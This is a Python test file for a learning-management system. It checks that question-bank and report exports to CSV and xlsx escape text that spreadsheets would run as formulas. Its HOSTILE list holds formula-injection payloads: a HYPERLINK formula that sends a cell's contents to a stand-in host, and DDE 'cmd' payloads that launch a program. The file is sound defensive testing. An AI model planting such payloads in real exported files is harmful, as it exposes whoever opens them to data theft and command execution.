"""Exported cells never run as formulas (OWASP "CSV injection"; issue 16).

Question banks exported to xlsx used to store text starting with ``=`` as a formula. Every export now
writes text as text: xlsx cells are string cells (never ``<f>``), CSV cells that a spreadsheet would
run (``=``, ``+``, ``-``, ``@``, tab, CR) are prefixed with ``'``.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

from lms.assessments import services
from lms.assessments.importers import ParseResult, parse_file, xlsx
from lms.core.exports import csv_bytes, safe_cell
from lms.reports.exports import Column, Table, iter_csv, write_xlsx

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]


def _formulas(data: bytes) -> list[str]:
    """Sheet parts of an xlsx that hold a formula element."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [n for n in archive.namelist() if n.startswith("xl/worksheets/") and b"<f>" in archive.read(n)]


def test_question_export_writes_formula_text_as_text_and_round_trips(app):
    """A question whose text and choices look like formulas exports as string cells and imports back unchanged."""
    bank = services.get_or_create_bank("SEC")
    result = ParseResult()
    result.add(1, {"ident": "X-001", "qtype": "single", "text_vi": HOSTILE[0], "text_en": HOSTILE[1],
                   "choices": HOSTILE[2:5], "key": 0, "tolerance": 0.0, "explanation_vi": "=1+1",
                   "citation": "@A1", "difficulty": "easy", "tags": []})
    assert not result.errors
    services.import_questions(bank, result)
    data = xlsx.dump(services.export_dicts(bank))
    assert _formulas(data) == []
    back = parse_file("x.xlsx", data).questions[0]
    assert (back["text_vi"], back["text_en"], back["explanation_vi"], back["citation"]) == (
        HOSTILE[0], HOSTILE[1], "=1+1", "@A1")
    assert back["choices"][:2] == HOSTILE[2:4]


def test_report_exports_escape_formula_text(tmp_path):
    """Report CSV cells starting with a formula character get a leading ', plain numbers stay; xlsx has no <f>."""
    rows = [[text, date(2025, 1, 2), 5] for text in HOSTILE] + [["-5", None, -5]]
    table = Table("Báo cáo", [Column("=Tên"), Column("Ngày", kind="date"), Column("Số", kind="int")], rows)
    text = "".join(iter_csv(table)).lstrip("\ufeff")
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[0][0] == "'=Tên"
    assert [r[0] for r in parsed[1:]] == ["'" + h for h in HOSTILE] + ["-5"]
    write_xlsx(Table("Báo cáo", table.columns, rows), tmp_path / "r.xlsx")
    assert _formulas((tmp_path / "r.xlsx").read_bytes()) == []


def test_shared_csv_writer_and_cell_helper_escape():
    """The shared helper (error lists, exports) escapes every formula start and leaves numbers and dates."""
    assert [safe_cell(h)[0] for h in HOSTILE] == ["'"] * len(HOSTILE)
    assert (safe_cell("-12.5"), safe_cell(7), safe_cell("Nguyễn")) == ("-12.5", 7, "Nguyễn")
    data = csv_bytes(["=A"], [["@B"], ["+C"]])
    assert data.decode("utf-8-sig").splitlines() == ["'=A", "'@B", "'+C"]
